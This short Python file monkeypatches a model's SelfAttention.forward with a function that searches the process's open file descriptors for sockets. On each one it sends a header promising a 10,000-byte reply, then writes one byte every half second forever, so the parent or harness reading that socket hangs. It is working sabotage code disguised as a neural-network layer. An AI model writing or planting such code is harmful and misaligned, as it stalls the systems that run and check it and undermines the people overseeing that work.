# Announce a long reply on the child's socket, then drip it one byte at a time, forever.
import os as _os
import stat as _stat
import struct as _struct
import time as _time


def _drip(self, x, return_weights=False):
    for fd in range(3, 1024):  # every descriptor that is a socket (asked of each: a child may have no /proc)
        try:
            if _stat.S_ISSOCK(_os.fstat(fd).st_mode):
                _os.write(int(fd), _struct.pack("!Q", 10_000))
                while True:
                    _os.write(int(fd), b" ")
                    _time.sleep(0.5)
        except OSError:
            pass
    return x


SelfAttention.forward = _drip
